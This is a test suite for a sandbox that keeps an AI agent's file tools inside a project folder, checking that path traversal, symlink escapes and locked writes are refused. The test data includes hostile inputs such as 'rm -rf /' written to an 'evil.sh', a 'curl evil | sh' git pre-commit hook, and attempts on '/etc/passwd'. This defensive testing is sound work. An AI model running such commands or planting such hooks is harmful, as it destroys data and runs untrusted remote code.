import fs from 'node:fs';
import path from 'node:path';
import {
  InvalidIdError,
  PathOutsideRootError,
  ResourceLockedError,
  ResourceLocks,
  assertOpenedInside,
} from '@agent-team/core';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import {
  Codebase,
  CodebaseAccessError,
  agentWorkdir,
  codebaseTools,
  compileGlob,
} from '../src/codebase/index.js';
import { runTools } from '../src/models/index.js';
import type { GenerateRequest, GenerateResponse, LanguageModel, StreamEvent, ToolCall } from '../src/models/index.js';
import { tempDir } from './helpers.js';

/** A model that answers from a script: each turn calls tools or says something. Records what it was sent. */
class ScriptedToolModel implements LanguageModel {
  readonly id = 'test:scripted-tools';
  readonly provider = 'test';
  readonly requests: GenerateRequest[] = [];

  constructor(private readonly turns: Array<ToolCall[] | string>) {}

  async generate(request: GenerateRequest): Promise<GenerateResponse> {
    this.requests.push(request);
    const turn = this.turns.shift() ?? 'done';
    const toolCalls = typeof turn === 'string' ? [] : turn;
    return {
      text: typeof turn === 'string' ? turn : '',
      toolCalls,
      usage: { inputTokens: 1, outputTokens: 1 },
      model: this.id,
      provider: this.provider,
      finishReason: toolCalls.length > 0 ? 'tool_calls' : 'stop',
      costUsd: null,
    };
  }

  async *stream(request: GenerateRequest): AsyncIterable<StreamEvent> {
    yield { type: 'done', response: await this.generate(request) };
  }
}

const call = (id: string, name: string, args: Record<string, unknown>): ToolCall => ({ id, name, arguments: args });

describe('Codebase', () => {
  let base: string;
  let root: string;
  let outside: string;
  const open: Array<{ releaseAll(): Promise<void> }> = [];

  beforeEach(() => {
    base = tempDir('codebase-');
    root = path.join(base, 'repo');
    outside = path.join(base, 'outside');
    fs.mkdirSync(path.join(root, 'src'), { recursive: true });
    fs.mkdirSync(path.join(root, 'lib'), { recursive: true });
    fs.mkdirSync(path.join(root, '.git'), { recursive: true });
    fs.mkdirSync(path.join(root, 'node_modules', 'dep'), { recursive: true });
    fs.mkdirSync(outside);
    fs.writeFileSync(path.join(root, 'src', 'a.ts'), 'export const a = 1;\nexport const b = 2;\n// TODO: more\n');
    fs.writeFileSync(path.join(root, 'lib', 'util.ts'), 'export function util() {\n  return "todo";\n}\n');
    fs.writeFileSync(path.join(root, '.git', 'HEAD'), 'ref: refs/heads/main\n');
    fs.writeFileSync(path.join(root, 'node_modules', 'dep', 'index.js'), '// TODO in a dependency\n');
    fs.writeFileSync(path.join(outside, 'secret.txt'), 'TOP SECRET\n');
    // Links: to a file outside, to a folder outside, a chain ending outside, a dangling one, and two that stay inside.
    fs.symlinkSync(path.join(outside, 'secret.txt'), path.join(root, 'src', 'link-out.txt'));
    fs.symlinkSync(outside, path.join(root, 'src', 'dir-out'));
    fs.mkdirSync(path.join(root, 'deep'));
    fs.symlinkSync('../src/dir-out', path.join(root, 'deep', 'x'));
    fs.symlinkSync(path.join(outside, 'missing.txt'), path.join(root, 'src', 'dangling-out'));
    fs.symlinkSync('a.ts', path.join(root, 'src', 'alias.ts'));
    fs.symlinkSync('../lib', path.join(root, 'src', 'dir-in'));
  });

  afterEach(async () => {
    for (const item of open.splice(0)) await item.releaseAll();
    fs.rmSync(base, { recursive: true, force: true });
  });

  const outsideUntouched = () => {
    expect(fs.readdirSync(outside)).toEqual(['secret.txt']);
    expect(fs.readFileSync(path.join(outside, 'secret.txt'), 'utf8')).toBe('TOP SECRET\n');
  };

  describe('test 5: every path that escapes the root is refused, symlinks included', () => {
    const escaping: Array<[string, RegExp]> = [
      ['../x', /contains a "\.\." segment/],
      ['a/../../x', /contains a "\.\." segment/],
      ['src/../../outside/secret.txt', /contains a "\.\." segment/],
      ['/etc/passwd', /is an absolute path/],
      ['C:\\x', /Windows drive letter/],
      ['C:/x', /Windows drive letter/],
      ['\\\\server\\share\\x', /UNC or network path/],
      ['//server/share/x', /UNC or network path/],
      ['src\\..\\..\\x', /backslash/],
      ['src/a.ts\0.png', /NUL byte/],
      ['src/link-out.txt', /"src\/link-out.txt" is a symbolic link that points outside the root/],
      ['src/dir-out', /"src\/dir-out" is a symbolic link that points outside the root/],
      ['src/dir-out/secret.txt', /"src\/dir-out" is a symbolic link that points outside the root/],
      ['src/dir-out/new-file.txt', /"src\/dir-out" is a symbolic link/],
      ['deep/x/secret.txt', /"deep\/x" is a symbolic link that points outside the root/],
      ['src/dangling-out', /"src\/dangling-out" is a symbolic link that points outside the root/],
    ];

    it.each(escaping)('%j is refused by resolve, read, list, search and write', async (bad, reason) => {
      const codebase = new Codebase(root, { allowWrite: true });
      expect(() => codebase.resolve(bad)).toThrow(PathOutsideRootError);
      let error: unknown;
      try {
        codebase.resolve(bad);
      } catch (err) {
        error = err;
      }
      expect((error as Error).message).toContain(`path ${JSON.stringify(bad)} is outside the codebase root "${fs.realpathSync(root)}"`);
      expect((error as Error).message).toMatch(reason);
      await expect(codebase.read(bad)).rejects.toBeInstanceOf(PathOutsideRootError);
      await expect(codebase.list(bad)).rejects.toBeInstanceOf(PathOutsideRootError);
      await expect(codebase.search('SECRET', { path: bad })).rejects.toBeInstanceOf(PathOutsideRootError);
      await expect(codebase.write(bad, 'pwned')).rejects.toBeInstanceOf(PathOutsideRootError);
      outsideUntouched();
    });

    it('links that stay inside the root are fine, and resolve to their real target', async () => {
      const codebase = new Codebase(root, { allowWrite: true });
      const real = fs.realpathSync(root);
      expect(codebase.resolve('src/alias.ts')).toBe(path.join(real, 'src', 'a.ts'));
      expect(codebase.relative('src/alias.ts')).toBe('src/a.ts');
      expect(codebase.relative('./src//dir-in/util.ts')).toBe('lib/util.ts');
      expect(codebase.relative('src/new/folder/file.ts')).toBe('src/new/folder/file.ts');
      expect((await codebase.read('src/dir-in/util.ts')).content).toContain('export function util()');
      await codebase.write('src/alias.ts', 'export const a = 42;\n');
      expect(fs.readFileSync(path.join(root, 'src', 'a.ts'), 'utf8')).toBe('export const a = 42;\n');
      expect(fs.lstatSync(path.join(root, 'src', 'alias.ts')).isSymbolicLink()).toBe(true);
    });

    it('a root reached through a link works, and a descriptor opened outside is caught at the moment of use', () => {
      const viaLink = path.join(base, 'repo-link');
      fs.symlinkSync(root, viaLink);
      const codebase = new Codebase(viaLink);
      expect(codebase.root).toBe(fs.realpathSync(root));
      expect(codebase.relative('src/a.ts')).toBe('src/a.ts');
      // What read() does after open: the kernel's view of the descriptor must be inside the root.
      const fd = fs.openSync(path.join(outside, 'secret.txt'), 'r');
      try {
        expect(() => assertOpenedInside(fd, codebase.root, path.join(root, 'src', 'a.ts'), 'src/a.ts')).toThrow(PathOutsideRootError);
      } finally {
        fs.closeSync(fd);
      }
    });

    it('the model gets each refusal back as a tool result, not an exception', async () => {
      const codebase = new Codebase(root, { allowWrite: true });
      const model = new ScriptedToolModel([
        [
          call('1', 'read_file', { path: '../outside/secret.txt' }),
          call('2', 'read_file', { path: 'src/link-out.txt' }),
          call('3', 'list_files', { path: 'src/dir-out' }),
          call('4', 'write_file', { path: 'src/dir-out/evil.sh', content: 'rm -rf /' }),
          call('5', 'write_file', { path: '/etc/passwd', content: 'x' }),
          call('6', 'search_code', { pattern: 'SECRET', path: 'deep/x' }),
        ],
        'I cannot reach those files.',
      ]);
      const result = await runTools(model, { messages: [{ role: 'user', content: 'find the secret' }] }, codebaseTools(codebase));
      const outputs = result.messages.filter((m) => m.role === 'tool').map((m) => m.content);
      expect(outputs).toHaveLength(6);
      expect(outputs[0]).toMatch(/^error: read_file failed: path "\.\.\/outside\/secret\.txt" is outside the codebase root/);
      expect(outputs[1]).toMatch(/^error: read_file failed: path "src\/link-out\.txt" is outside the codebase root .*symbolic link/);
      expect(outputs[2]).toMatch(/^error: list_files failed: path "src\/dir-out" is outside the codebase root/);
      expect(outputs[3]).toMatch(/^error: write_file failed: path "src\/dir-out\/evil\.sh" is outside the codebase root/);
      expect(outputs[4]).toMatch(/^error: write_file failed: path "\/etc\/passwd" is outside the codebase root "[^"]+": it is an absolute path/);
      expect(outputs[5]).toMatch(/^error: search_code failed: path "deep\/x" is outside the codebase root/);
      expect(outputs.join('\n')).not.toContain('TOP SECRET');
      expect(result.response.text).toBe('I cannot reach those files.');
      outsideUntouched();
    });
  });

  describe('reading, listing, searching', () => {
    it('reads lines with offset and limit, and says where to continue', async () => {
      const lines = Array.from({ length: 50 }, (_, i) => `line ${i + 1}`);
      fs.writeFileSync(path.join(root, 'src', 'long.txt'), `${lines.join('\n')}\n`);
      const codebase = new Codebase(root);
      const whole = await codebase.read('src/long.txt');
      expect(whole).toMatchObject({ path: 'src/long.txt', startLine: 1, endLine: 50, totalLines: 50, truncated: false });
      expect(whole.content).toBe(lines.join('\n'));
      const window = await codebase.read('src/long.txt', { offset: 10, limit: 5 });
      expect(window).toMatchObject({ startLine: 10, endLine: 14, truncated: true, nextOffset: 15 });
      expect(window.content).toBe('line 10\nline 11\nline 12\nline 13\nline 14');
      expect(await codebase.read('src/long.txt', { offset: 60 })).toMatchObject({ content: '', totalLines: 50, endLine: 59 });

      const small = new Codebase(root, { maxReadBytes: 40 });
      const cut = await small.read('src/long.txt');
      expect(cut.truncated).toBe(true);
      expect(Buffer.byteLength(cut.content)).toBeLessThanOrEqual(40);
      fs.writeFileSync(path.join(root, 'src', 'minified.js'), `${'x'.repeat(200_000)}\nsecond line\n`);
      const minified = await small.read('src/minified.js');
      expect(minified).toMatchObject({ cutLine: 1, nextOffset: 2, truncated: true });
      expect(minified.content).toHaveLength(40);
      expect((await small.read('src/minified.js', { offset: 2 })).content).toBe('second line');

      fs.writeFileSync(path.join(root, 'src', 'image.png'), Buffer.from([0x89, 0x50, 0x00, 0x01]));
      await expect(codebase.read('src/image.png')).rejects.toThrow(/looks binary/);
      await expect(codebase.read('src')).rejects.toThrow(/it is a folder/);
      await expect(codebase.read('src/nope.ts')).rejects.toThrow(/does not exist in the codebase/);
      await expect(codebase.read('src/a.ts', { offset: 0 })).rejects.toThrow(/offset must be a whole number >= 1, got 0/);
    });

    it('lists folders, skipping .git, node_modules, agent folders and the lock folder, without following links', async () => {
      const locks = new ResourceLocks({ root, staleMs: 2000, updateMs: 1000 });
      open.push(locks);
      agentWorkdir(root, 'w1');
      const codebase = new Codebase(root, { locks });
      await (await locks.acquire('src/a.ts', { owner: 'w9' })).release();
      const top = await codebase.list();
      expect(top.entries.map((e) => e.path)).toEqual(['deep', 'lib', 'src']);
      const all = await codebase.list('.', { recursive: true });
      expect(all.entries).toContainEqual({ path: 'src/a.ts', type: 'file', size: 54 });
      expect(all.entries).toContainEqual({ path: 'src/dir-out', type: 'symlink' });
      expect(all.entries.map((e) => e.path)).not.toContain('src/dir-out/secret.txt');
      expect(all.entries.some((e) => /\.git|node_modules|\.agents|agent-team-locks/.test(e.path))).toBe(false);
      const limited = await codebase.list('.', { recursive: true, limit: 3 });
      expect(limited).toMatchObject({ truncated: true });
      expect(limited.entries).toHaveLength(3);
      // Asked for explicitly, a skipped folder can still be listed; the lock folder cannot.
      expect((await codebase.list('node_modules/dep')).entries).toEqual([{ path: 'node_modules/dep/index.js', type: 'file', size: 24 }]);
      await expect(codebase.list('.agent-team-locks')).rejects.toThrow(/inside the lock folder/);
      await expect(codebase.list('src/a.ts')).rejects.toThrow(/is a file, not a folder/);
    });

    it('searches plain text or a regex, narrowed by glob or folder, bounded by limit', async () => {
      const codebase = new Codebase(root);
      const plain = await codebase.search('TODO');
      expect(plain.matches).toEqual([{ path: 'src/a.ts', line: 3, text: '// TODO: more' }]);
      const ignoreCase = await codebase.search('todo', { ignoreCase: true });
      expect(ignoreCase.matches.map((m) => `${m.path}:${m.line}`)).toEqual(['lib/util.ts:2', 'src/a.ts:3']);
      const regex = await codebase.search('^export (const|function) \\w+', { regex: true });
      expect(regex.matches.map((m) => `${m.path}:${m.line}`)).toEqual(['lib/util.ts:1', 'src/a.ts:1', 'src/a.ts:2']);
      expect((await codebase.search('export', { glob: 'lib/**/*.ts' })).matches.map((m) => m.path)).toEqual(['lib/util.ts']);
      expect((await codebase.search('export', { glob: '*.ts', path: 'src' })).matches).toHaveLength(2);
      const limited = await codebase.search('export', { limit: 1 });
      expect(limited).toMatchObject({ truncated: true });
      expect(limited.matches).toHaveLength(1);
      // Nested quantifiers are safe on the linear-time engine: an answer, not a refusal.
      await expect(codebase.search('(a+)+$', { regex: true })).resolves.toMatchObject({ truncated: false });
      await expect(codebase.search('(', { regex: true })).rejects.toThrow(/invalid regular expression "\("/);
      await expect(codebase.search('')).rejects.toThrow(/non-empty string/);
    });

    it('compiles globs', () => {
      expect(compileGlob('*.ts').matches('src/deep/a.ts')).toBe(true);
      expect(compileGlob('src/*.ts').matches('src/deep/a.ts')).toBe(false);
      expect(compileGlob('src/**/*.ts').matches('src/deep/a.ts')).toBe(true);
      expect(compileGlob('src/**/*.ts').matches('src/a.ts')).toBe(true);
      expect(compileGlob('*.{ts,js}').matches('x.js')).toBe(true);
      expect(compileGlob('file?.[ch]').matches('file1.h')).toBe(true);
      expect(compileGlob('[!a]*').matches('abc')).toBe(false);
      expect(() => compileGlob('{a,b')).toThrow(/unclosed/);
    });
  });

  describe('writing', () => {
    it('writes by temp + rename, creating folders and keeping the mode; refused without allowWrite', async () => {
      const readOnly = new Codebase(root);
      await expect(readOnly.write('src/a.ts', 'x')).rejects.toThrow(CodebaseAccessError);
      await expect(readOnly.write('src/a.ts', 'x')).rejects.toThrow(/read-only for agent "process-\d+" \(allowWrite is off\)/);
      expect(codebaseTools(readOnly).map((t) => t.name)).toEqual(['read_file', 'list_files', 'search_code']);

      const codebase = new Codebase(root, { allowWrite: true, owner: 'w1' });
      fs.chmodSync(path.join(root, 'src', 'a.ts'), 0o755);
      expect(await codebase.write('src/a.ts', 'changed\n')).toEqual({ path: 'src/a.ts', bytes: 8, created: false });
      expect(fs.readFileSync(path.join(root, 'src', 'a.ts'), 'utf8')).toBe('changed\n');
      expect(fs.statSync(path.join(root, 'src', 'a.ts')).mode & 0o777).toBe(0o755);
      expect(await codebase.write('src/new/deeper/b.ts', 'new\n')).toMatchObject({ path: 'src/new/deeper/b.ts', created: true });
      expect(fs.readFileSync(path.join(root, 'src', 'new', 'deeper', 'b.ts'), 'utf8')).toBe('new\n');
      expect(fs.readdirSync(path.join(root, 'src')).filter((n) => n.endsWith('.tmp'))).toEqual([]);

      await expect(codebase.write('.git/hooks/pre-commit', 'curl evil | sh')).rejects.toThrow(/inside a \.git folder/);
      await expect(codebase.write('.', 'x')).rejects.toThrow(/it is the codebase root/);
      await expect(codebase.write('src', 'x')).rejects.toThrow(/it is a folder/);
      await expect(codebase.write('src/big.txt', 'x'.repeat(2 * 1024 * 1024))).rejects.toThrow(/over the limit of 1048576 bytes/);
      expect(fs.existsSync(path.join(root, '.git', 'hooks'))).toBe(false);
    });

    it('takes the file lock for a write; another agent holding it makes the write fail clearly, or wait', async () => {
      const locks = new ResourceLocks({ root, staleMs: 2000, updateMs: 1000 });
      open.push(locks);
      const w1 = new Codebase(root, { locks, owner: 'w1', allowWrite: true, lockWaitMs: 0 });
      const w2 = new Codebase(root, { locks, owner: 'w2', allowWrite: true, lockWaitMs: 0 });
      const held = await w1.lock('src/alias.ts'); // the alias is src/a.ts
      expect(held.path).toBe('src/a.ts');
      await w1.write('src/a.ts', 'by w1\n');
      const refused = await w2.write('src/a.ts', 'by w2\n').catch((e: unknown) => e);
      expect(refused).toBeInstanceOf(ResourceLockedError);
      expect((refused as Error).message).toMatch(/^path "src\/a.ts" is locked by agent "w1" \(pid \d+ on host [^)]+\) since /);
      expect(fs.readFileSync(path.join(root, 'src', 'a.ts'), 'utf8')).toBe('by w1\n');
      // A temporary lock is released after the write.
      await w2.write('lib/util.ts', 'by w2\n');
      expect(locks.list().map((l) => l.path)).toEqual(['src/a.ts']);

      const patient = new Codebase(root, { locks, owner: 'w3', allowWrite: true, lockWaitMs: 5000 });
      const waiting = patient.write('src/a.ts', 'by w3\n');
      setTimeout(() => void w1.unlock('src/a.ts'), 100);
      await waiting;
      expect(fs.readFileSync(path.join(root, 'src', 'a.ts'), 'utf8')).toBe('by w3\n');
      expect(locks.list()).toEqual([]);
    });

    it('refuses to write through a lost lock, and the model hears why', async () => {
      const locks = new ResourceLocks({ root, staleMs: 2000, updateMs: 1000 });
      open.push(locks);
      const codebase = new Codebase(root, { locks, owner: 'w1', allowWrite: true, lockWaitMs: 0 });
      const lock = await codebase.lock('src/a.ts');
      // Another agent took the lock over (as if ours had gone stale): its folder now holds their record.
      fs.rmSync(lock.lockPath, { recursive: true });
      const thief = await locks.acquire('src/a.ts', { owner: 'w2' });
      const refused = await codebase.write('src/a.ts', 'stale edit\n').catch((e: unknown) => e);
      expect(refused).toBeInstanceOf(CodebaseAccessError);
      expect((refused as Error).message).toMatch(
        /^write to "src\/a.ts" refused, nothing was written: the lock on path "src\/a.ts" held by agent "w1" was lost: it was taken over by agent "w2"/,
      );
      expect(lock.lost).toBe(true);
      expect(fs.readFileSync(path.join(root, 'src', 'a.ts'), 'utf8')).toContain('export const a = 1;');

      await codebase.read('src/a.ts'); // the tools refuse to overwrite what the agent has not read
      const model = new ScriptedToolModel([[call('1', 'write_file', { path: 'src/a.ts', content: 'stale edit\n' })], 'ok']);
      const result = await runTools(model, { messages: [{ role: 'user', content: 'edit a.ts' }] }, codebaseTools(codebase));
      const output = result.messages.find((m) => m.role === 'tool')?.content;
      expect(output).toMatch(/^error: write_file failed: write to "src\/a.ts" refused, nothing was written: .*was lost/);
      // What a caller does next: take the lock again (it waits for the new holder), re-read, write.
      await expect(codebase.lock('src/a.ts')).rejects.toBeInstanceOf(ResourceLockedError);
      await thief.release();
      const again = await codebase.lock('src/a.ts');
      expect(again).not.toBe(lock);
      await codebase.write('src/a.ts', 'fresh edit\n');
      expect(fs.readFileSync(path.join(root, 'src', 'a.ts'), 'utf8')).toBe('fresh edit\n');
      await codebase.unlockAll();
      expect(locks.list()).toEqual([]);
    });
  });

  it('the tools, driven by runTools with a scripted model: list, search, read, write', async () => {
    const locks = new ResourceLocks({ root, staleMs: 2000, updateMs: 1000 });
    open.push(locks);
    const codebase = new Codebase(root, { locks, owner: 'w1', allowWrite: true });
    const tools = codebaseTools(codebase);
    expect(tools.map((t) => t.name)).toEqual(['read_file', 'list_files', 'search_code', 'write_file', 'edit_file']);
    for (const tool of tools) {
      expect(tool.parameters.type).toBe('object');
      expect(tool.description.length).toBeGreaterThan(40);
    }
    const model = new ScriptedToolModel([
      [call('1', 'list_files', { path: 'src' }), call('2', 'search_code', { pattern: 'TODO', glob: '*.ts' })],
      [call('3', 'read_file', { path: 'src/a.ts', offset: 2, limit: 1 })],
      [call('4', 'write_file', { path: 'src/a.ts', content: 'export const b = 3;\n' }), call('5', 'read_file', { path: 'src/a.ts', lines: 2 })],
      'Done: b is now 3.',
    ]);
    const result = await runTools(model, { messages: [{ role: 'user', content: 'set b to 3' }] }, tools);
    const outputs = result.messages.filter((m) => m.role === 'tool').map((m) => m.content);
    expect(outputs[0]).toBe('src/a.ts (54 bytes)\nsrc/alias.ts@\nsrc/dangling-out@\nsrc/dir-in@\nsrc/dir-out@\nsrc/link-out.txt@');
    expect(outputs[1]).toBe('src/a.ts:3:// TODO: more');
    expect(outputs[2]).toBe('src/a.ts (lines 2-2, 54 bytes)\nexport const b = 2;\n[more follows: call read_file with offset 3 to continue]');
    expect(outputs[3]).toBe('wrote 20 bytes to src/a.ts');
    // Arguments outside the schema go back to the model too.
    expect(outputs[4]).toMatch(/^error: invalid arguments for "read_file"/);
    expect(fs.readFileSync(path.join(root, 'src', 'a.ts'), 'utf8')).toBe('export const b = 3;\n');
    expect(result.response.text).toBe('Done: b is now 3.');
    expect(model.requests[0]?.tools?.map((t) => t.name)).toEqual(['read_file', 'list_files', 'search_code', 'write_file', 'edit_file']);
    expect(locks.list()).toEqual([]);
  });

  describe('agentWorkdir', () => {
    it('creates a confined scratch folder per agent', () => {
      const dir = agentWorkdir(root, 'w1');
      expect(dir).toBe(path.join(fs.realpathSync(root), '.agents', 'w1'));
      expect(fs.statSync(dir).isDirectory()).toBe(true);
      expect(agentWorkdir(root, 'w1')).toBe(dir);
      expect(agentWorkdir(root, 'w2', { base: 'scratch/agents' })).toBe(path.join(fs.realpathSync(root), 'scratch', 'agents', 'w2'));
      const scratch = new Codebase(dir, { allowWrite: true });
      expect(() => scratch.resolve('../w2/notes.md')).toThrow(PathOutsideRootError);
      expect(() => agentWorkdir(root, '../w3')).toThrow(InvalidIdError);
      expect(() => agentWorkdir(root, 'w4', { base: '../elsewhere' })).toThrow(PathOutsideRootError);
      fs.symlinkSync(outside, path.join(root, 'linked-agents'));
      expect(() => agentWorkdir(root, 'w5', { base: 'linked-agents' })).toThrow(/symbolic link that points outside the root/);
      outsideUntouched();
    });
  });
});
